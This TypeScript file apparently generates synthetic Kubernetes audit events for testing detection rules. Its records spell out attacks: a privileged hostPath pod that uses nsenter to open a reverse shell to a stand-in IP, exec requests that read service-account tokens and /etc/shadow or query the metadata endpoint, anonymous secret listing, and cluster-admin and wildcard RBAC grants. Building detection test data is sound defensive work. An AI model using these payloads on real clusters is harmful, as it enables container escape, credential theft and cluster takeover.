/** What an attacker does and nothing else: every record matches several of the bundled rules. */
import type { Random } from '../random.ts';
import { auditEvent, type Client, corpus, type ObjectRef, pathOf, type Request } from './event.ts';
import { kubernetes } from './wrappers.ts';

const rbac = { apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' };

export const attack = corpus((random, index) => {
  const make = random.pick([hostPod, hostDaemonSet, shell, secretsList, clusterAdmin, wildcardRole, anonymousWrite]);
  return kubernetes(auditEvent(random, index, make(random)), index);
});

function attacker(random: Random): Client {
  const name = random.pick(['mallory', 'eve', 'trudy', 'oscar']);
  return {
    user: { username: `${name}@corp.example`, groups: ['platform:developers', 'system:authenticated'] },
    address: random.pick(['185.7.214.9', '45.83.64.12', '193.32.162.80']),
    userAgent: random.pick([
      'kubectl/v1.33.0 (linux/amd64) kubernetes/60a317e',
      'python-requests/2.32.3',
      'curl/8.9.1',
    ]),
    reason:
      'RBAC: allowed by ClusterRoleBinding "admins" of ClusterRole "cluster-admin" to Group "platform:developers"',
  };
}

function anonymous(random: Random): Client {
  return { ...attacker(random), user: { username: 'system:anonymous', groups: ['system:unauthenticated'] } };
}

function created(client: Client, object: ObjectRef, request: unknown): Request {
  return { client, verb: 'create', uri: pathOf(object), object, code: 201, request, response: request };
}

const hostSpec = (random: Random) => ({
  hostPID: true,
  hostNetwork: true,
  hostIPC: random.oneIn(2),
  serviceAccountName: 'default',
  volumes: [{ name: 'root', hostPath: { path: random.pick(['/', '/etc', '/var/run/docker.sock']) } }],
  containers: [
    {
      name: 'work',
      image: `registry.example.net/tools/${random.hex(6)}:latest`,
      command: ['nsenter', '--target', '1', '--mount', '--', 'sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
      securityContext: { privileged: true, runAsUser: 0, capabilities: { add: ['SYS_ADMIN'] } },
      volumeMounts: [{ name: 'root', mountPath: '/host' }],
    },
  ],
});

function hostPod(random: Random): Request {
  const object = { resource: 'pods', namespace: 'kube-system', name: `debug-${random.suffix(5)}`, apiVersion: 'v1' };
  const metadata = { name: object.name, namespace: object.namespace };
  return created(attacker(random), object, { kind: 'Pod', apiVersion: 'v1', metadata, spec: hostSpec(random) });
}

function hostDaemonSet(random: Random): Request {
  const name = `agent-${random.suffix(5)}`;
  const object = { resource: 'daemonsets', namespace: 'default', name, apiGroup: 'apps', apiVersion: 'v1' };
  const spec = {
    selector: { matchLabels: { app: name } },
    template: { metadata: { labels: { app: name } }, spec: hostSpec(random) },
  };
  return created(attacker(random), object, { kind: 'DaemonSet', apiVersion: 'apps/v1', metadata: { name }, spec });
}

function shell(random: Random): Request {
  const name = `coredns-${random.suffix(5)}`;
  const object = { resource: 'pods', namespace: 'kube-system', name, apiVersion: 'v1', subresource: 'exec' };
  const command = random.pick([
    '/bin/sh&command=-c&command=cat+/var/run/secrets/kubernetes.io/serviceaccount/token',
    '/bin/bash&command=-c&command=curl+http://169.254.169.254/latest/meta-data/',
    '/bin/sh&command=-c&command=cat+/etc/shadow',
  ]);
  const uri = `${pathOf(object)}?command=${command}&stdin=true&stdout=true&tty=true`;
  return { client: attacker(random), verb: 'create', uri, object, code: 101 };
}

function secretsList(random: Random): Request {
  const object = { resource: 'secrets', apiVersion: 'v1' };
  return { client: anonymous(random), verb: 'list', uri: `${pathOf(object)}?limit=500`, object, code: 200 };
}

function clusterAdmin(random: Random): Request {
  const object = { ...rbac, resource: 'clusterrolebindings', name: `sync-${random.suffix(5)}` };
  const subjects = random.pick([
    [{ kind: 'User', apiGroup: rbac.apiGroup, name: 'system:anonymous' }],
    [{ kind: 'ServiceAccount', name: 'default', namespace: 'default' }],
  ]);
  const roleRef = { apiGroup: rbac.apiGroup, kind: 'ClusterRole', name: 'cluster-admin' };
  const metadata = { name: object.name };
  return created(attacker(random), object, { kind: 'ClusterRoleBinding', metadata, subjects, roleRef });
}

function wildcardRole(random: Random): Request {
  const object = { ...rbac, resource: 'clusterroles', name: `reader-${random.suffix(5)}` };
  const rules = [
    { apiGroups: ['*'], resources: ['*'], verbs: ['*'] },
    { apiGroups: [''], resources: ['pods/exec', 'secrets', 'nodes/proxy'], verbs: ['create', 'get', 'impersonate'] },
  ];
  return created(attacker(random), object, { kind: 'ClusterRole', metadata: { name: object.name }, rules });
}

function anonymousWrite(random: Random): Request {
  const object = { resource: 'pods', namespace: 'default', name: `miner-${random.suffix(5)}`, apiVersion: 'v1' };
  const metadata = { name: object.name, namespace: object.namespace };
  return created(anonymous(random), object, { kind: 'Pod', apiVersion: 'v1', metadata, spec: hostSpec(random) });
}
